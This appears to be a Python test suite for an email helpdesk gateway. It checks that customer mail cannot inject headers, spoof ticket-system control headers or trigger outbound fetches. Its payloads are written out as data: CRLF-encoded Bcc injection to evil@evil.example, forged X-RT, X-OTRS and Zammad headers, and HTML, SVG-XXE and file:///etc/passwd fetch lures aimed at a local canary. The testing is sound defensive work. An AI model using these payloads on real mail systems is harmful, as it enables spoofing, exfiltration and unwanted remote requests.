# SPDX-License-Identifier: Apache-2.0
"""Mails that want more than to be read: to write our headers, to call somewhere, to speak as a ticket system."""
import email.message
import http.server
import re
import threading

import pytest

from people import POLICY
from processes import eventually, stretched
from test_agents import desk_with_agents

PASS = b'Authentication-Results: mail.desk.example; dmarc=pass header.from=klant.example\n'
EVIL = '=0D=0ABcc:_evil@evil.example=0D=0AX-Evil:_ja=0D=0A=0D=0Atekst'
NAME = '=0D=0AX-Evil=3A_ja'  # more than that, and there is no sender
OURS = {'bcc', 'x-evil'}


def test_no_header_is_written_by_a_subject_a_name_or_a_file(folder_desk):
    """Decoded line ends in what our letters show: to the customer, to the agent, and with the agent's answer."""
    desk, (sanne, _) = desk_with_agents(folder_desk, authserv='mail.desk.example', authserv_hops=0)
    els = desk.customer()
    els.send(PASS + (f'From: =?utf-8?q?Els{NAME}?= <{els.address}>\nTo: {desk.address}\n'
                     f'Subject: =?utf-8?q?Scherm{EVIL}?=\nMessage-ID: <1@klant.example>\n'
                     f'Cc: =?utf-8?q?Piet{EVIL}?= <piet@klant.example>\n\nHet scherm is zwart.\n').encode())
    letter = els.letter(0)
    assert 'Scherm' in letter.subject, 'a proven contact reads the title: else this looks at nothing'
    told = sanne.told(letter.number)
    answer = sanne.answer(told, 'Zie de handleiding.')
    answer.add_attachment(b'x', maintype='application', subtype='pdf', filename='NAME.pdf')
    answer = answer.as_bytes().replace(b'"NAME.pdf"', f'"=?utf-8?q?a{EVIL}.pdf?="'.encode())
    sanne.send(b'Authentication-Results: mail.desk.example; dmarc=pass header.from=desk.example\n' + answer)
    answered = els.letter(1)
    files = [part.get_filename() for part in answered.message.iter_attachments()]
    assert files and files[0].startswith('a'), 'the file went along: else this looks at nothing'
    desk.flushed()
    for one in (letter, told, answered):
        for part in one.message.walk():
            assert not OURS & {name.lower() for name in part.keys()}, one.raw
        assert not re.search(rb'(?mi)^(bcc|x-evil):', one.raw)
        assert len(one.message.get_all('Subject')) == 1
    assert not [raw for raw in desk.post.out.messages() if b'evil@evil.example' in raw.partition(b'\r\n\r\n')[0].lower()
                and re.search(rb'(?mi)^(to|cc|bcc):.*evil@evil', raw)]


FIELDS = """X-Casegate-Proof: L4
X-Casegate-Ticket: CS0000001
X-Casegate-Sender: sanne@desk.example
X-Casegate-Check: 0123456789abcdef0123456789abcdef
X-Casegate-Action: close
X-RT-Loop-Prevention: x
X-RT-Command: Status: resolved
X-OTRS-Priority: 5 very high
X-OTRS-State: closed
X-OTRS-FollowUp-State: closed
X-Zammad-Ticket-State: closed
X-Zammad-Customer-Login: sanne@desk.example
X-Priority: 1
X-Envelope-From: sanne@desk.example
X-MS-Exchange-Organization-AuthAs: Internal
X-Original-From: sanne@desk.example
X-Sender: sanne@desk.example
Sender: sanne@desk.example
Resent-From: sanne@desk.example
Reply-To: sanne@desk.example
Disposition-Notification-To: evil@evil.example
Return-Receipt-To: evil@evil.example
Errors-To: evil@evil.example
"""


def test_the_headers_of_ticket_systems_change_nothing(folder_desk):
    """With them or without: the same sender, the same proof, the same decision, and nobody else is written to."""
    desk = folder_desk()
    desk.configuration['mailboxes'][0]['authserv'] = 'mail.desk.example'
    desk.gateway.configure(desk.configuration)
    desk.start()
    els = desk.customer()
    els.send(els.write('Scherm', 'Het scherm is zwart.'))
    letter = els.letter(0)
    desk.gateway.run('case', 'resolve', letter.number, 'De kabel zat los.')
    said = []
    for name, fields in (('plain', ''), ('dressed up', FIELDS)):
        for number, mail in enumerate((els.write('Muis', 'De muis is stuk.'),
                                       els.write(f'Re: [{letter.number}]', 'Akkoord'))):
            mail.replace_header('Message-ID', f'<{number}@klant.example>')
            mail.replace_header('Date', 'Mon, 23 Nov 2026 15:12:00 +0100')
            file = desk.gateway.folder / 'mail.eml'
            file.write_bytes(fields.encode() + mail.as_bytes())
            said.append(desk.gateway.say('explain', file))
            if fields:
                els.send(file.read_bytes())
    assert said[:2] == said[2:], said
    desk.settled(3)
    assert desk.gateway.case(letter.number)['state'] == 'resolved'
    desk.flushed()
    for address in ('sanne@desk.example', 'evil@evil.example'):
        assert not [one for one in desk.post.letters(address) if b'Muis' not in one and b'Scherm' not in one]
    assert not desk.post.letters('evil@evil.example')


class Canary:
    """A web server that nobody has a reason to call."""

    def __init__(self):
        calls = self.calls = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_one_request(self):
                calls.append(self.rfile.readline())
                self.close_connection = True

        self.server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        self.url = f'http://127.0.0.1:{self.server.server_port}/canary'
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def canary():
    canary = Canary()
    yield canary
    canary.server.shutdown()


HTML = """<html><head><meta http-equiv="refresh" content="0;url=URL"><link rel="stylesheet" href="URL">
<base href="URL"><style>@import url(URL); p {background: url(URL)}</style></head>
<body background="URL"><img src="URL"><iframe src="URL"></iframe><object data="URL"></object><video src="URL" poster="URL">
</video><svg><image href="URL"/></svg><a href="URL" ping="URL">klik</a><img src="file:///etc/passwd"><script src="URL"></script>
<p>Het scherm is zwart.</p></body></html>"""
SVG = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "URL">]><svg xmlns="http://www.w3.org/2000/svg">&x;<image href="URL"/></svg>'
CALENDAR = 'BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nURL:URL\nATTACH:URL\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR\n'


def tempting(els, url):
    """A mail with everything that other programs fetch when they read one."""
    mail = els.write('Scherm', f'Zie {url}')
    mail.add_alternative(HTML.replace('URL', url), subtype='html')
    for content, subtype in ((SVG, 'xml'), (CALENDAR, 'calendar'), (HTML, 'html')):
        mail.add_attachment(content.replace('URL', url), subtype=subtype, filename=f'a.{subtype}')
    outside = email.message.EmailMessage(policy=POLICY)
    outside['Content-Type'] = f'message/external-body; access-type=URL; URL="{url}"'
    outside.set_payload('Content-Type: text/plain\n\n')
    mail.attach(outside)
    for name, value in {'List-Unsubscribe': f'<{url}>', 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
                        'X-Image-URL': url, 'Face': url, 'Archived-At': f'<{url}>'}.items():
        mail[name] = value
    return mail


@pytest.mark.parametrize('list_mail', [False, True])
def test_nothing_that_a_mail_names_is_fetched(folder_desk, canary, list_mail):
    desk, (sanne, _) = desk_with_agents(folder_desk)
    els = desk.customer()
    mail = tempting(els, canary.url)
    if not list_mail:
        for name in ('List-Unsubscribe', 'List-Unsubscribe-Post'):
            del mail[name]
    els.send(mail)
    taken, = desk.settled(1)
    if not list_mail:
        number = els.letter(0).number
        sanne.send(sanne.answer(sanne.told(number), f'Zie {canary.url}'))
        els.letter(1)
    desk.gateway.say('mail', 'show', taken['id'])
    file = desk.gateway.folder / 'mail.eml'
    file.write_bytes(mail.as_bytes())
    desk.gateway.say('explain', file)
    desk.gateway.say('read', file)
    desk.flushed()
    assert canary.calls == []


def test_the_canary_sings(canary):
    import urllib.request
    with pytest.raises(OSError):
        urllib.request.urlopen(canary.url, timeout=stretched())
    eventually(lambda: canary.calls, 'a call')
